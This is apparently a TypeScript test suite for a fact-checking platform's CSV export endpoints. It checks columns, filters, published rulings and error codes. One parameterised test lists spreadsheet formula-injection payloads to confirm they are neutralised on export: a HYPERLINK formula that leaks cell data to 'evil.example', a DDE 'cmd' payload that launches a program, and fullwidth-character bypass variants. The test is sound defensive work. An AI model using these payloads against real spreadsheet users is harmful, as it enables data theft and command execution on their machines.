import Papa from 'papaparse';
import { rows } from '../../src/platform/database/rows';
import { type ApiApp, openApiApp } from '../api/api-app';
import { insert, type Seed, seedEverything } from '../api/seed';
import { csv, importText } from './import-harness';

let api: ApiApp;
let ids: Seed;
let uuids: Seed;

const HOSTILE = `=SUM(A1), "quoted",\r\nnext line; 'x' é 𝔘`;

beforeAll(async () => {
  api = await openApiApp();
  ({ ids, uuids } = await seedEverything(api.database));
  await rows(api.database, 'UPDATE claims SET text = $1 WHERE id = $2', [HOSTILE, uuids.rival]);
  const people = Array.from({ length: 250 }, (_, i) => `c${i},Claim number ${i}`);
  await importText(api.database, 'csv', csv('id,claim', ...people));
  await insert(api.database, 'evidence', {
    claim_id: uuids.claim,
    publisher_id: uuids.publisher,
    record_quote: '@cmd',
    stance: 'denies',
    origin: 'person',
    confidence: 1,
    reason: '-1+1',
  });
});
afterAll(() => api.close());

const read = async (path: string) => {
  const { text, headers } = await api.request.get(path).buffer(true).expect(200);
  const { data, errors } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return { data, text, headers };
};

it('claims come as a table that another program reads, all of them, with the filters of the list', async () => {
  const { data, text, headers } = await read('/api/v1/claims.csv');
  expect(headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
  expect(headers['content-disposition']).toBe('attachment; filename="claims.csv"');
  expect(text.startsWith('\uFEFFid,claim,')).toBe(true);
  expect(data).toHaveLength(252);
  const row = data.find(({ id }) => id === ids.claim);
  expect(row).toMatchObject({
    claim: 'At least seven people were hurt.',
    state: 'single_source',
    probability: '0.643',
    best: 'yes',
    verdict: '1',
    ruling: '',
  });
  expect((await read('/api/v1/claims.csv?state=single_source')).data.map(({ id }) => id)).toEqual([ids.claim]);
});

it('a published ruling stands beside its claim', async () => {
  const [person] = await rows<{ id: string }>(api.database, 'SELECT id FROM people LIMIT 1');
  const ruling = await insert(api.database, 'rulings', {
    claim_id: uuids.claim,
    person_id: person!.id,
    reading: 'first',
    rating: 'true',
    rating_label: 'True',
    holds: 'yes',
    rationale: 'Seen.',
    question_revision: 1,
    verdict_number: 1,
    seen_evidence: [],
  });
  await rows(
    api.database,
    `UPDATE reviews SET state = 'published', ruling_id = $1, published_ruling = $1, published_at = '2026-05-01T00:00:00Z' WHERE claim_id = $2`,
    [ruling, uuids.claim],
  );
  const { data } = await read('/api/v1/claims.csv?best=true');
  expect(data).toEqual([
    expect.objectContaining({ id: ids.claim, ruling: 'True', holds: 'yes', published_at: '2026-05-01T00:00:00.000Z' }),
  ]);
});

it('a text that a spreadsheet would compute is kept from it, and stays what it is otherwise', async () => {
  const { data } = await read(`/api/v1/claims.csv?question=${ids.question}`);
  expect(data.find(({ id }) => id === ids.rival)?.claim).toBe(`'${HOSTILE}`);
  const evidence = await read(`/api/v1/claims/${ids.claim}/evidence.csv?stance=denies`);
  expect(evidence.data).toEqual([
    expect.objectContaining({ quote: "'@cmd", reason: "'-1+1", publisher: 'The Northern Courier', grade: 'B' }),
  ]);
});

it.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `=cmd|' /C calc'!A0`,
])('%j is a text for a spreadsheet', async (text) => {
  await rows(api.database, `UPDATE evidence SET reason = $1 WHERE record_quote = '@cmd'`, [text]);
  const { data } = await read(`/api/v1/claims/${ids.claim}/evidence.csv?stance=denies`);
  expect(data.map(({ reason }) => reason)).toEqual([`'${text}`]);
});

it('evidence comes as a table, too', async () => {
  const { data } = await read(`/api/v1/claims/${ids.claim}/evidence.csv`);
  expect(data.map(({ quote }) => quote)).toEqual(['At least seven people were hurt', 'Injured: 7', "'@cmd"]);
  expect(data[0]).toMatchObject({
    claim_id: ids.claim,
    title: 'Ferry runs aground',
    url: 'https://courier.example/ferry',
    debunk: 'no',
  });
});

it.each([
  ['/api/v1/claims.csv?stat=x', 400],
  ['/api/v1/claims.csv?limit=5', 400],
  ['/api/v1/claims/clm_00000000000000000000000000000000/evidence.csv', 404],
])('%s is answered with %i, not with half a table', async (path, status) => {
  await api.request
    .get(path)
    .expect(status)
    .expect('content-type', /problem\+json/);
});
